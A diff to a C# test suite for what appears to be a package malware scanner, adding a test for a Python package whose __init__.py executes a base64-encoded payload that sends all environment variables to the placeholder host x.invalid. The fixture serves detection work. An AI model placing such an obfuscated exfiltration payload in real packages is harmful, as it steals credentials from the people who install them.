@@ -104,6 +104,13 @@ public sealed class TechniqueFamilyTests
     }
 
     [Fact]
+    public async Task Code_decoded_from_a_literal_is_analysed_where_it_runs()
+    {
+        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zLCBqc29uLCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8veC5pbnZhbGlkL2MiLCBkYXRhPWpzb24uZHVtcHMoZGljdChvcy5lbnZpcm9uKSkuZW5jb2RlKCkpCg=='))\n"));
+        Assert.Contains(report.Findings, f => f.CheckId == "credential-exfiltration" && f.File!.Contains("!/decoded@2", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public async Task A_pth_line_importing_a_package_module_inherits_that_modules_load_time_behaviour()
     {
         var wheel = Packages.Wheel(
